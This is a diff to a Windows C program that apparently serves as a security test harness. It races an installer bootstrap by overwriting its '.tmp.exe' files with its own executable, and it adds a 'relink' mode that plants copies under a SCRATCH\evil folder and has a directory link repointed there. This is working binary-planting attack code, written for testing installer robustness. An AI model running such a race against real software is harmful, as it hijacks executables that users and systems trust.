@@ -5,6 +5,9 @@
 // from file to file. At the end it deletes what it put in place (where the bootstrap had let go of a name),
 // and a folder of the bootstrap's ("vlm...") that only this kept. Started in any other way, it is an intruder
 // that got in: it marks STANDIN_RECORD's file and ends.
+// "racer.exe relink TEMP SCRATCH" instead waits, for every such file, until the bootstrap holds it only to read
+// (its writing done), puts its copy at the same place under SCRATCH\evil, and has the link TEMP pointed there by
+// the host's helper (which waits for SCRATCH\relink); once only.
 #include <windows.h>
 #include <shellapi.h>
 #include <wchar.h>
@@ -14,7 +17,7 @@
 
 static wchar_t seen[MOST][LONG_PATH], placed[MOST][LONG_PATH];
 static DWORD seen_at[MOST], seen_delay[MOST];
-static int seen_count, placed_count;
+static int seen_count, placed_count, relinking;
 
 static int due(const wchar_t* target) {
   DWORD now = GetTickCount();
@@ -27,7 +30,7 @@ static int due(const wchar_t* target) {
   CloseHandle(readable);
   wcscpy(seen[seen_count], target);
   seen_at[seen_count] = now;
-  seen_delay[seen_count++] = now % 80;
+  seen_delay[seen_count++] = relinking ? 5 : now % 80;
   return 0;
 }
 
@@ -43,7 +46,25 @@ static void attack(const wchar_t* target, const wchar_t* scratch) {
     wcscpy(placed[placed_count++], target);
 }
 
-static void scan(const wchar_t* dir, int depth, const wchar_t* scratch) {
+static void relink(const wchar_t* target, const wchar_t* temp, const wchar_t* scratch) {
+  wchar_t twin[LONG_PATH], self[LONG_PATH];
+  HANDLE written = relinking > 1 ? INVALID_HANDLE_VALUE : CreateFileW(target, GENERIC_READ, FILE_SHARE_READ |
+                                                   FILE_SHARE_DELETE, NULL, OPEN_EXISTING, 0, NULL);
+  if (written == INVALID_HANDLE_VALUE) return;
+  CloseHandle(written);
+  swprintf(twin, LONG_PATH, L"%ls\\evil%ls", scratch, target + wcslen(temp));
+  *wcsrchr(twin, L'\\') = 0;
+  CreateDirectoryW(twin, NULL);
+  *(twin + wcslen(twin)) = L'\\';
+  GetModuleFileNameW(NULL, self, LONG_PATH);
+  if (!CopyFileW(self, twin, FALSE)) return;
+  wcscpy(placed[placed_count++], twin);
+  swprintf(self, LONG_PATH, L"%ls\\relink", scratch);
+  CloseHandle(CreateFileW(self, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL));
+  relinking = 2;
+}
+
+static void scan(const wchar_t* dir, int depth, const wchar_t* scratch, const wchar_t* root) {
   wchar_t path[LONG_PATH];
   WIN32_FIND_DATAW found;
   swprintf(path, LONG_PATH, L"%ls\\*", dir);
@@ -53,9 +74,9 @@ static void scan(const wchar_t* dir, int depth, const wchar_t* scratch) {
     size_t length = wcslen(found.cFileName);
     swprintf(path, LONG_PATH, L"%ls\\%ls", dir, found.cFileName);
     if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
-      if (depth == 0 && found.cFileName[0] != L'.') scan(path, 1, scratch);
+      if (depth == 0 && found.cFileName[0] != L'.') scan(path, 1, scratch, root);
     } else if (length > 8 && _wcsicmp(found.cFileName + length - 8, L".tmp.exe") == 0 && due(path)) {
-      attack(path, scratch);
+      relinking ? relink(path, root, scratch) : attack(path, scratch);
     }
   } while (FindNextFileW(find, &found));
   FindClose(find);
@@ -65,7 +86,8 @@ int main(void) {
   int argc = 0;
   wchar_t** argv = CommandLineToArgvW(GetCommandLineW(), &argc);
   wchar_t stop[LONG_PATH];
-  if (argc != 4 || wcscmp(argv[1], L"race") != 0) {
+  relinking = argc == 4 && wcscmp(argv[1], L"relink") == 0;
+  if (argc != 4 || (wcscmp(argv[1], L"race") != 0 && !relinking)) {
     DWORD n = GetEnvironmentVariableW(L"STANDIN_RECORD", stop, LONG_PATH - 10);
     if (n > 0 && n < LONG_PATH - 10)
       CloseHandle(CreateFileW(wcscat(stop, L".intruded"), GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL));
@@ -73,7 +95,7 @@ int main(void) {
   }
   swprintf(stop, LONG_PATH, L"%ls\\stop", argv[3]);
   for (DWORD begun = GetTickCount(); GetTickCount() - begun < 120000 && GetFileAttributesW(stop) == INVALID_FILE_ATTRIBUTES;) {
-    scan(argv[2], 0, argv[3]);
+    scan(argv[2], 0, argv[3], argv[2]);
     Sleep(1);
   }
   while (placed_count > 0) {
